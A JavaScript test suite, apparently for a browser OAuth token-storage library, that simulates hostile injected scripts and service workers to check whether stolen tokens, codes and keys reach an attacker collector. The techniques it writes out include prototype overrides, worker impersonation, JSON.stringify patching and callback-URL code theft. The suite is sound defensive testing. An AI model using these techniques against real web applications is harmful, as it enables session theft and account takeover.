// Attacks: hostile scripts in an app that is signed in, before it and after it, against each keep. A collector tries what they find.
//
// A script is put into the page by the browser's own means, so no policy stops it, and the test carries to the collector what it found:
// how a script comes in and how it gets its findings out is not the question here.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, test } from "node:test";

import { Collector, startShelf } from "./attack/collector.js";
import { AMBIGUOUS, OUTSIDE, lookalikes, redirects } from "./attack/destinations.js";
import { MALFORMED, UNKNOWN } from "./attack/messages.js";
import { startProvider } from "./attack/provider.js";
import { KEEPS, ROWS, TABLES } from "./attack/table.js";
import { openChromium } from "./lib/chromium.js";
import { answerProvider } from "./lib/demo.js";
import { GUARD } from "./lib/guard.js";
import { PACKAGE, serve } from "./lib/site.js";

const read = (name) => readFile(new URL(name, import.meta.url), "utf8");
const [script, serviceWorker, guard, readme] = await Promise.all([
  read("attack/script.js"),
  read("attack/service-worker.js"),
  readFile(GUARD, "utf8"),
  readFile(join(PACKAGE, "README.md"), "utf8"),
]);
const [, written] = /^```http\nContent-Security-Policy:\n([^`]+)\n```$/m.exec(readme);

const answers = {
  "*": `<!doctype html><title>app</title><script>${guard}</script><script type="module" src="/app.js"></script>`,
  "/app.js": 'import * as tokenkeep from "/tokenkeep/index.js"; window.tokenkeep = tokenkeep;',
  // Own-origin scripts of the attacker's.
  "/attack.js": script,
  "/evil.js": `import "/attack.js";
    const row = new URL(import.meta.url).search.slice(1);
    attack.patch({ network: row, crypto: row });`,
  "/evil-keep.js": 'import "/evil.js?script"; import "/tokenkeep/wasm/keep.js";',
  "/service-worker.js": serviceWorker,
};
const sites = {};
for (const name of [...Object.keys(KEEPS), "self"]) {
  sites[name] = await serve({ answers, files: { "/tokenkeep/": PACKAGE } });
}
const provider = await startProvider(Object.values(sites).flatMap(({ origin, elsewhere }) => [origin, elsewhere]));
const scopes = "openid profile email offline_access orders:read";
const browser = await openChromium("--host-resolver-rules=MAP *.evil.example 127.0.0.1");
const cookies = await meet();

/** Signs in at the provider, where all are known from then on. */
async function meet() {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(sites.page.origin);
  await loaded(page);
  const { issuer, clientId, api } = provider;
  await open(page, { issuer, clientId, api, resource: api, scopes, keep: "page" });
  await page.evaluate(() => void auth.signIn());
  await answerProvider(page);
  await page.waitForURL(`${sites.page.origin}/callback`);
  const cookies = await context.cookies(provider.issuer);
  await context.close();
  return cookies;
}

/** One keep, and what was found there. */
class Target {
  #found = {};
  #got = {};
  #sessions = new Set();

  static async start(name, kind) {
    const target = Object.assign(new Target(), kind, { site: sites[name] });
    [target.collector, target.shelf] = [await Collector.start(provider), await startShelf()];
    const { site, keep, dpop = false, policy, shelf } = target;
    const { issuer, clientId, api } = provider;
    target.options = { issuer, clientId, api: [api, shelf.api], resource: api, scopes, dpop, keep: [keep] };
    if (policy) {
      const theirs = written
        .replaceAll("https://login.example.com", issuer)
        .replaceAll("https://api.example.com", `${new URL(api).origin} ${shelf.origin}`)
        .replace("https://app.example.com/keep.js", policy === "script" ? `${site.origin}/tokenkeep/wasm/keep.js` : "'self'")
        .replaceAll(/\s+/g, " ");
      site.headers = { "Content-Security-Policy": theirs };
    }
    return target;
  }

  /** What was found by an attack: texts, private keys, and proofs for requests that were held back. */
  found(row) {
    return (this.#found[row] ??= { texts: new Set(), keys: [], held: [], data: undefined, redirectUri: `${this.site.origin}/callback` });
  }

  /** What is run before all scripts of the app's pages. */
  before(first) {
    const origins = JSON.stringify([this.site.origin, this.site.elsewhere]);
    return `if (${origins}.includes(origin)) { ${script}; (${first})(); }`;
  }

  /** A page of the app's. `first` is what a script does that is there before all others, in each of them. */
  async visit(first, { context, origin = this.site.origin } = {}) {
    if (context === undefined) {
      context = await browser.newContext();
      // The provider knows the user.
      await context.addCookies(cookies);
      if (first !== undefined) {
        await context.addInitScript(this.before(first));
      }
    }
    const page = await context.newPage();
    const session = await context.newCDPSession(page);
    session.on("Runtime.bindingCalled", ({ payload }) => {
      const { row, text, key, held, data, redirectUri } = JSON.parse(payload);
      const found = this.found(row);
      text && found.texts.add(text);
      key && found.keys.push(key);
      held && found.held.push(held);
      found.data ??= data;
      found.redirectUri = redirectUri ?? found.redirectUri;
    });
    this.#sessions.add(session);
    await session.send("Runtime.enable");
    await session.send("Runtime.addBinding", { name: "carry" });
    await page.goto(origin);
    await loaded(page);
    return page;
  }

  /** Waits until what pages have said is here. */
  async settle() {
    await Promise.all([...this.#sessions].map((session) => session.send("Runtime.evaluate", { expression: "0" })));
  }

  /** Closes all pages of the browser that this is one of. */
  async end(page) {
    await this.settle();
    this.#sessions.clear();
    await page.context().close();
  }

  /** Signs in as an app does, as far as the page in which the answer comes. */
  async leave(page, options = this.options) {
    assert.equal(await open(page, options), "signed_out");
    await page.evaluate(() => void auth.signIn());
  }

  async signIn(page, options = this.options) {
    await this.leave(page, options);
    await page.waitForURL(`${this.site.origin}/callback`);
    await loaded(page);
    assert.equal(await open(page, options), "signed_in");
    return page;
  }

  /** Calls, renews, and calls again. */
  async use(page) {
    await page.evaluate(async (url) => {
      await (await auth.fetch(url)).json();
      const before = auth.session;
      while (auth.session === before) {
        await auth.renew();
        await new Promise(requestAnimationFrame);
      }
      await (await auth.fetch(url)).json();
    }, `${provider.api}me`);
  }

  /** Opens the app in another tab, where tabs ask each other. */
  async useInAnotherTab(page) {
    const other = await this.visit(undefined, { context: page.context() });
    assert.equal(await open(other, this.options), "signed_in");
    await this.settle();
  }

  /** What the requests that came to servers of the attacker's bring. */
  arrived(row, requests) {
    for (const { authorization, dpop } of requests.splice(0)) {
      this.found(row).texts.add(authorization);
      dpop && this.found(row).held.push(dpop);
    }
  }

  /** What an attack has got: a text is `usable` if the collector gets something for it. */
  got(row) {
    return (this.#got[row] ??= this.#try(row));
  }

  async #try(row) {
    await this.settle();
    const { texts, keys, held, data, redirectUri } = this.found(row);
    if (data !== undefined) {
      return data ? "usable" : "stopped";
    }
    const secrets = [...new Map([...texts].flatMap((text) => provider.issued.within(text)))];
    const verifiers = secrets.filter(([, kind]) => kind === "code_verifier").map(([verifier]) => verifier);
    for (const [secret, kind] of secrets) {
      const isUsable = !provider.issued.isSpent(secret) && this.collector.isUsable(secret, kind, { keys, held, verifiers, redirectUri });
      if (await isUsable) {
        return "usable";
      }
    }
    return secrets.length > 0 ? "seen" : "stopped";
  }
}

async function loaded(page) {
  await page.waitForFunction(() => window.tokenkeep !== undefined);
}

function open(page, options) {
  return page.evaluate(async (options) => {
    try {
      window.auth = await tokenkeep.open(options);
      return auth.session.status;
    } catch (error) {
      return error.code;
    }
  }, options);
}

const PATCHES = ["network", "language", "wasm", "messages", "crypto", "storage"];
/** Rows for what patches of each kind see. */
const rowsOf = (when) => Object.fromEntries(PATCHES.map((name) => [name, `${when} ${name}`]));

/** What a script that is first puts in the place of the keep, by row. */
const INSTEAD = {
  script: () => {
    const { createPolicy } = TrustedTypePolicyFactory.prototype;
    TrustedTypePolicyFactory.prototype.createPolicy = function (name) {
      return createPolicy.call(this, name, { createScriptURL: () => "/evil-keep.js" });
    };
  },

  away: () => {
    attack.patch({ network: "away", crypto: "away" });
    delete globalThis.SharedWorker;
    delete globalThis.Worker;
  },

  played: () => {
    attack.patch({ network: "played", crypto: "played" });
    const connect = async (port) => {
      await import("/tokenkeep/wasm/keep.js");
      dispatchEvent(Object.assign(new Event("connect"), { ports: [port] }));
    };
    globalThis.SharedWorker = globalThis.Worker = class extends EventTarget {
      constructor(_, { name }) {
        super();
        globalThis.name = name;
        const { port1, port2 } = new MessageChannel();
        this.port = port1;
        this.postMessage = (_, [port]) => connect(port);
        new.target === globalThis.SharedWorker && connect(port2);
      }
    };
  },
};

/** What attacks do, each in a browser that knows nobody. Each notes what it finds under the names of its rows. */
const ATTACKS = {
  async "a script that comes when the user is signed in"(target) {
    const { site, shelf, collector, options } = target;
    const { api } = provider;
    const page = await target.signIn(await target.visit());
    await page.evaluate(script);
    await page.evaluate(() => attack.storage("storage"));
    await page.evaluate(async () => {
      const modules = await Promise.all(["auth", "index", "remote", "wire", "response"].map((name) => import(`/tokenkeep/${name}.js`)));
      return attack.walk("walk", window, auth, tokenkeep, ...modules);
    });
    await page.evaluate(() => attack.scan("memory", "/tokenkeep/wasm/tokenkeep.js"));

    await page.evaluate(async ([api, elsewhere]) => {
      const row = "events";
      auth.on("*", (event) => attack.note(row, event, event.error, event.error?.stack));
      auth.subscribe(() => attack.note(row, auth.session));
      for (const name of ["debug", "error", "info", "log", "warn"]) {
        const original = console[name];
        console[name] = (...args) => (attack.note(row, args), original.apply(console, args));
      }
      for (const url of [elsewhere, `${api}nowhere`, "http://127.0.0.1:1/", "data:,"]) {
        await auth.fetch(url).then(
          async (answer) => attack.note(row, answer, [...answer.headers], await answer.text()),
          (error) => attack.note(row, `${error}`, error.stack, error.cause, { ...error }),
        );
      }
    }, [api, `${collector.origin}/`]);
    await target.use(page);
    await page.evaluate(() => attack.note("events", performance.getEntries().map((entry) => entry.toJSON()), auth.session));

    await calls(page, lookalikes(target));
    target.arrived("hosts", [...collector.received.splice(0), ...shelf.strayed.splice(0)]);
    await calls(page, OUTSIDE.map((path) => shelf.origin + path));
    target.arrived("paths", shelf.strayed);
    await calls(page, AMBIGUOUS.map((path) => shelf.origin + path));
    target.arrived("ambiguous paths", shelf.strayed);
    const redirecting = redirects(shelf, [`${collector.origin}/`, `${shelf.origin}/outside`]);
    await calls(page, redirecting);
    assert.deepEqual(shelf.redirected, redirecting);
    target.arrived("redirects", [...collector.received.splice(0), ...shelf.strayed.splice(0)]);
    await page.evaluate(async (url) => attack.note("echo", await (await auth.fetch(url)).text()), `${shelf.api}echo`);

    const context = page.context();
    const asking = await target.visit(undefined, { context });
    await asking.evaluate(script);
    await asking.evaluate((rows) => attack.patch(rows), { network: "tabs", messages: "tabs", language: "tabs" });
    await open(asking, { ...options, dpop: false, keep: ["page"], renewByFrame: false });
    await asking.evaluate(() => attack.scan("tabs", "/tokenkeep/wasm/tokenkeep.js"));

    await page.evaluate((options) => attack.signIn("own login", options, "frame"), options);
    await target.got("own login");
    const elsewhere = await target.visit(undefined, { context, origin: site.elsewhere });
    await elsewhere.evaluate(script);
    const refused = await elsewhere.evaluate((options) => attack.signIn("own login, other site, frame", options, "frame"), options);
    assert.equal(refused, "login_required");
    await elsewhere.evaluate((options) => attack.signIn("own login, other site, window", options, "popup"), options);
    await target.got("own login, other site, window");

    // The app goes on as before.
    await page.evaluate((rows) => attack.patch(rows), rowsOf("later"));
    await target.use(page);
    await target.useInAnotherTab(page);
    await page.evaluate(() => attack.scan("later wasm"));
    await page.evaluate(async (url) => {
      const { orders } = await (await auth.fetch(url)).json();
      attack.say("use", { data: orders.length > 0 });
    }, `${api}orders`);
    await target.end(page);
  },

  async "a script that is first"(target) {
    const rows = JSON.stringify(rowsOf("first"));
    const page = await target.signIn(await target.visit(`() => attack.patch(${rows})`));
    await target.use(page);
    await target.useInAnotherTab(page);
    await page.evaluate(() => attack.scan("first wasm"));
    if (target.keep !== "page") {
      await speak(target, page);
    }
    await target.end(page);
  },

  async "a script that takes code and verifier"(target) {
    await takeCode(target, "callback");
  },

  async "a script that has the keep store the verifier"(target) {
    if (target.keep === "shared") {
      await takeCode(target, "durable", () => {
        const { postMessage } = MessagePort.prototype;
        MessagePort.prototype.postMessage = function (message, ...rest) {
          if (message?.[0] === "open") {
            message[1].outlives = false;
          }
          return postMessage.call(this, message, ...rest);
        };
      });
    }
  },

  async "a script that starts another script as the worker"(target) {
    if (target.keep !== "page") {
      await impersonate(target, INSTEAD.script);
    }
  },

  async "a script that takes workers away"(target) {
    await impersonate(target, INSTEAD.away, { ...target.options, keep: target.keep });
    if (target.keep !== "page") {
      const page = await target.visit(INSTEAD.away);
      assert.equal(await open(page, target.options), "keep_unavailable");
      await target.end(page);
      target.found("away, list");
    }
  },

  async "a script that plays the keep"(target) {
    if (target.keep !== "page") {
      await impersonate(target, INSTEAD.played);
    }
  },

  async "a script that adds an API of its own to the list"(target) {
    const { collector } = target;
    const first = `() => {
      const { stringify } = JSON;
      JSON.stringify = (...args) => {
        const text = stringify(...args);
        if (/"client_id"/.test(text) && /"issuer"/.test(text) && !/code_challenge/.test(text)) {
          const config = JSON.parse(text);
          config.api = [config.api, "${collector.origin}/"].flat();
          return stringify(config);
        }
        return text;
      };
    }`;
    await impersonate(target, first, target.options, (page) => calls(page, [`${collector.origin}/`]));
    target.arrived("list", collector.received);
  },

  async "a service worker that reads"(target) {
    const page = await target.signIn(await target.visit(() => {}));
    await register(page, "/service-worker.js");
    await calls(page, [`${provider.api}me`, `${provider.api}me?hold`]);
    await target.end(page);
  },

  async "a service worker that puts its script before the package's"(target) {
    const page = await target.visit(() => {});
    await register(page, "/service-worker.js?replace");
    await page.reload();
    await loaded(page);
    await target.signIn(page);
    await calls(page, [`${provider.api}me`]);
    await target.end(page);
  },
};

/** Signs in where a script is first, as far as that goes, and uses what there is. */
async function impersonate(target, first, options = target.options, use = (page) => calls(page, [`${provider.api}me`])) {
  const page = await target.visit(first);
  await open(page, options);
  if (await page.evaluate(() => window.auth !== undefined)) {
    await target.signIn(page, options);
    await use(page);
  }
  await target.end(page);
}

/** Takes what is in the address when the user comes back, and what is stored, before the app is there. */
async function takeCode(target, row, first = () => {}) {
  const page = await target.visit(`() => {
    (${first})();
    if (location.search.includes("code=")) {
      attack.note("${row}", location.href);
      stop();
      attack.storage("${row}").then(() => console.log("taken"));
    }
  }`);
  const taken = page.waitForEvent("console", (message) => message.text() === "taken");
  await target.leave(page);
  await taken;
  await target.got(row);
  await target.end(page);
}

/** Registers a service worker, and waits until it has taken the page over; or gives up. */
function register(page, url) {
  return page.evaluate(async (url) => {
    try {
      const container = navigator.serviceWorker;
      const policy = trustedTypes.createPolicy("tokenkeep", { createScriptURL: (url) => url });
      await container.register(policy.createScriptURL(url));
      container.controller ?? (await new Promise((resolve) => container.addEventListener("controllerchange", resolve)));
    } catch {
      // The policy names no such worker, or the app has its policy for Trusted Types already.
    }
  }, url);
}

/** Speaks to a keep that serves an app, and opens others at its script. The app's keep goes on. */
async function speak(target, page) {
  const { collector, shelf } = target;
  const takes = [`${collector.origin}/`, `${shelf.origin}/outside`, ...redirects(shelf, [`${collector.origin}/`])];
  const [me, wider] = [`${provider.api}me`, [provider.api, `${collector.origin}/`]];
  const strange = [...lookalikes(target), ...OUTSIDE.map((path) => shelf.origin + path)];
  const told = await page.evaluate(async ([takes, strange, unknown, malformed, wider, foreign, me]) => {
    const { started, opening } = attack;
    const begin = (opening) => [["open", opening], ["call", "session", location.href, "finish_sign_in"]];
    const call = (id, init) => ["call", id, location.href, "fetch", { method: "GET", headers: [], ...init }, false];
    const take = (url) => call(url, { url });
    const inits = ["follow", "manual", "error"].flatMap((redirect) => ["cors", "no-cors"].map((mode) => ({ redirect, mode })));
    const fetches = takes.flatMap((url) => inits.map((init) => call(`${url} ${JSON.stringify(init)}`, { url, ...init })));
    const asked = unknown.map((method, index) => ["call", `unknown ${index}`, location.href, method]);
    const outcome = (heard) => {
      const [what, , answer] = heard.find(([, id]) => id === "session");
      return what === "answer" ? JSON.parse(answer).outcome : what;
    };
    const port = attack.port(started);
    const began = await attack.speak("port", port, begin(opening));
    const heard = await attack.speak("port", port, [take(me), ...strange.map(take), ...fetches, ...asked, ...malformed]);

    // Other options than those of the name, other names, and other wasm.
    const { nameOf } = await import("/tokenkeep/wire.js");
    const { config, wasm, linger, pending } = opening;
    const named = { linger, pending };
    const widened = JSON.stringify({ ...JSON.parse(config), api: wider, renew_by_frame: false });
    const bytes = new Uint8Array([0]);
    const others = [
      [started.options.name, { ...opening, config: widened }],
      [started.options.name, { ...opening, wasm: bytes }],
      [await nameOf(widened, wasm, named), { ...opening, config: widened }],
      [await nameOf(config, wasm, { ...named, linger: named.linger + 1 }), { ...opening, config: widened, linger: linger + 1 }],
      [await nameOf(config, foreign, named), { ...opening, wasm: foreign }],
      [await nameOf(config, bytes, named), { ...opening, wasm: bytes }],
    ];
    const sessions = [];
    for (const [name, options] of others) {
      const heard = await attack.speak("other", attack.port(started, name), [...begin(options), take(takes[0])]);
      sessions.push(outcome(heard));
    }
    const answers = heard.filter(([what]) => what === "answer").map(([, id, answer]) => [id, answer?.status]);
    return { began: outcome(began), answers, sessions };
  }, [takes, strange, UNKNOWN, MALFORMED, wider, `${collector.origin}/tokenkeep.wasm`, me]);
  target.arrived("port", [...collector.received.splice(0), ...shelf.strayed.splice(0)]);
  // It is served as any page is, and gets no more. A redirect is an answer that cannot be read.
  assert.equal(told.began, "restored");
  assert.deepEqual(told.answers.filter(([, status]) => status !== 0), [[me, 200]]);
  // Whoever comes to the keep finds it as it was opened; another name is an empty keep; what does not fit its name is refused.
  assert.deepEqual(told.sessions, ["restored", "restored", "nothing", "refused", "refused", "refused"]);
  // And it goes on.
  assert.deepEqual(await page.evaluate(async (url) => [(await auth.fetch(url)).status, auth.session.status], me), [200, "signed_in"]);
}

/** Has the app call these, however that ends. */
async function calls(page, urls) {
  await page.evaluate(async (urls) => {
    for (const [url, init] of urls.map((url) => [url].flat())) {
      await auth.fetch(url, init).then((answer) => answer.text(), () => {});
    }
  }, urls);
}

describe("attacks", { concurrency: 2 }, () => {
  for (const [index, name] of Object.keys(KEEPS).entries()) {
    test(`a keep: ${name}`, async () => {
      const expected = Object.fromEntries(Object.entries(ROWS).map(([row, words]) => [row, words[index + 1]]));
      const target = await Target.start(name, KEEPS[name]);
      for (const attack of Object.values(ATTACKS)) {
        await attack(target);
      }
      const got = {};
      for (const row of Object.keys(ROWS)) {
        got[row] = expected[row] === "—" ? "—" : await target.got(row);
      }
      assert.deepEqual(got, expected);
    });
  }
});

test("a script that is first after a reload does not get what a SharedWorker holds already", async () => {
  const target = await Target.start("shared", { keep: "shared" });
  const options = { ...target.options, renewByFrame: false };
  const page = await target.signIn(await target.visit(), options);
  for (const [row, first] of Object.entries(INSTEAD)) {
    const other = await target.visit(undefined, { context: page.context() });
    await other.addInitScript({ content: target.before(first) });
    await other.reload();
    await loaded(other);
    assert.equal(await open(other, { ...options, keep: "shared" }), "signed_out");
    await calls(other, [`${provider.api}me`]);
    assert.equal(await target.got(row), "stopped", row);
  }
  await target.use(page);
  await target.end(page);
});

test("with worker-src 'self' another script of the origin can be the worker", async () => {
  const target = await Target.start("self", { keep: "shared", policy: "self" });
  await ATTACKS["a script that starts another script as the worker"](target);
  await ATTACKS["a service worker that puts its script before the package's"](target);
  // Once the app has its policy for Trusted Types nobody else has one.
  await ATTACKS["a service worker that reads"](target);
  const got = await Promise.all(["script", "replaced", "passing"].map((row) => target.got(row)));
  assert.deepEqual(got, ["usable", "usable", "stopped"]);
});

test("a policy stops a request to another origin, and no navigation", async () => {
  const { site, collector } = await Target.start("shared, policy", KEEPS["shared, policy"]);
  const page = await browser.newPage();
  await page.goto(site.origin);
  const [requested, left] = ["requested", "left"].map((name) => `${collector.origin}/?${name}`);
  const stopped = await page.evaluate((url) => fetch(url, { mode: "no-cors" }).catch(({ name }) => name), requested);
  assert.equal(stopped, "TypeError");
  await page.evaluate((url) => location.assign(url), left);
  await page.waitForURL(left);
  assert.deepEqual(collector.asked, ["/?left"]);
  await page.close();
});

test("the manual's tables are these", async () => {
  const manual = await read("../../src/manual/threats.md");
  const line = (cells) => `| ${cells.join(" | ")} |`;
  for (const [title, rows] of Object.entries(TABLES)) {
    const head = [title, ...Object.keys(KEEPS)];
    const table = [head, head.map(() => "---"), ...Object.values(rows)].map(line).join("\n");
    assert.ok(manual.includes(`\n\n${table}\n\n`), `src/manual/threats.md should have\n\n${table}`);
  }
});
